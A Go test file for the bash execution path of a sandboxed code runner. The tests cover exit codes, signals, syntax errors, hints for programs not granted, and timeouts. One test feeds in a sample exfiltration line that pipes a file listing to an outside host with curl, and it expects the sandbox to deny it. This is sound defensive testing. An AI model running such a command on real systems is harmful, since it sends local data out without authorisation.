//go:build unix

package engine_test

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/gearbox-mcp/gearbox/internal/audit"
	"github.com/gearbox-mcp/gearbox/internal/execution"
	"github.com/gearbox-mcp/gearbox/internal/sandbox/host"
)

func newShellBench(t *testing.T, c benchConfig) *bench {
	t.Helper()
	if !host.HasShell() {
		t.Skip("skipped: this machine has no bash")
	}
	return newBench(t, c)
}

func TestTheExitStatusOfBashDecides(t *testing.T) {
	b := newShellBench(t, benchConfig{})
	for name, c := range map[string]struct {
		code   string
		status execution.Status
		exit   int
		error  string
	}{
		"end":          {"echo hi", execution.StatusOK, 0, ""},
		"exit":         {"echo hi; exit 3", execution.StatusError, 3, "EXIT"},
		"failure":      {"echo hi; false", execution.StatusError, 1, "EXIT"},
		"signal":       {"echo hi; kill -9 $$", execution.StatusError, 137, "SIGKILL"},
		"syntax error": {"echo hi; fi", execution.StatusError, 2, "SyntaxError"},
		// What only the host's parser does not know: bash runs it.
		"index with a dot":  {"declare -A m; m[file.txt]=hi; echo ${m[file.txt]}", execution.StatusOK, 0, ""},
		"computed operator": {"op=+; [ $((1 $op 2)) = 3 ] && echo hi", execution.StatusOK, 0, ""},
		"no memory":         {"echo hi; echo '<cell>: xrealloc: cannot allocate 64 bytes' >&2; exit 2", execution.StatusMemoryLimit, 2, "MEMORY_LIMIT"},
		"only said so":      {"echo hi; echo '<cell>: xrealloc: cannot allocate 64 bytes' >&2; echo but >&2; exit 2", execution.StatusError, 2, "EXIT"},
	} {
		t.Run(name, func(t *testing.T) {
			r := b.run(execution.Request{Language: execution.Bash, Code: c.code})
			code, stdout := "", "hi\n"
			if r.Error != nil {
				code = r.Error.Code
			}
			if c.error == "SyntaxError" {
				stdout = "" // nothing has run
			}
			if r.Status != c.status || r.ExitCode != c.exit || code != c.error || r.Stdout != stdout || r.Value != nil {
				t.Errorf("%+v %+v", r, r.Error)
			}
		})
	}
}

func TestWhatBashWouldDoIsRefusedByLine(t *testing.T) {
	b := newShellBench(t, benchConfig{})
	r := b.run(execution.Request{Language: execution.Bash, Code: "echo hi\nls | curl -T - https://example.com/"})
	if r.Status != execution.StatusDenied || r.Stdout != "" || len(r.Error.Violations) == 0 || r.Error.Violations[0].Line != 2 {
		t.Fatalf("%+v %+v", r, r.Error)
	}
	if got := b.events.types(); got[len(got)-1] != audit.Finished || got[len(got)-2] == audit.Started {
		t.Errorf("recorded %v", got)
	}
}

func TestAScriptIsToldOfItsProgramsAsAScript(t *testing.T) {
	const python, absent = "Do it in Python", "no such program in /usr/bin or /bin either"
	b := newShellBench(t, benchConfig{})
	hint := func(l execution.Language, code string) string {
		r := b.run(execution.Request{Language: l, Code: code})
		if r.Status != execution.StatusDenied || len(r.Error.Violations) == 0 {
			t.Fatalf("%s: %+v %+v", code, r, r.Error)
		}
		return r.Error.Violations[0].Hint
	}
	if h := hint(execution.Bash, "no_such_command x"); !strings.Contains(h, "no_such_command is not among the gear's programs") || !strings.Contains(h, absent) || strings.Contains(h, python) {
		t.Errorf("mistyped: %s", h)
	}
	if h := hint(execution.Bash, "make x"); !strings.Contains(h, "make is not among the gear's programs") || strings.Contains(h, absent) {
		t.Errorf("there, and not granted: %s", h)
	}
	if h := hint(execution.Bash, "/opt/no_such/tool x"); !strings.Contains(h, "is not among") || strings.Contains(h, absent) {
		t.Errorf("by its path: %s", h)
	}
	if h := hint(execution.Python, "import subprocess\nsubprocess.run(['no_such_command'])"); !strings.Contains(h, python) {
		t.Errorf("in Python: %s", h)
	}
}

func TestVariablesOfBashThatNoEnvironmentHoldsAreSaid(t *testing.T) {
	b := newShellBench(t, benchConfig{})
	r := b.run(execution.Request{Language: execution.Bash, Code: "echo hi", Variables: map[string]json.RawMessage{"v": []byte(`"a\u0000b"`)}})
	if r.Status != execution.StatusError || r.Stdout != "" || !strings.Contains(r.Error.Message, "NUL") {
		t.Errorf("%+v %+v", r, r.Error)
	}
}

// The bridge of a program in bash closes as it starts; its time goes on.
func TestTheTimeOfBashIsCountedToItsEnd(t *testing.T) {
	b := newShellBench(t, benchConfig{clock: &handClock{}})
	id := b.submit(execution.Request{Language: execution.Bash, Code: "echo on; read -r -t 600 < <(sleep 600)", Timeout: 7 * time.Second})
	b.until(id, func(r execution.Result) bool { return r.Stdout == "on\n" })
	b.hand().fire(7 * time.Second)
	if r := b.wait(id); r.Status != execution.StatusTimeout || r.ExitCode != -1 || r.DurationMS <= 0 {
		t.Errorf("%+v", r)
	}
}
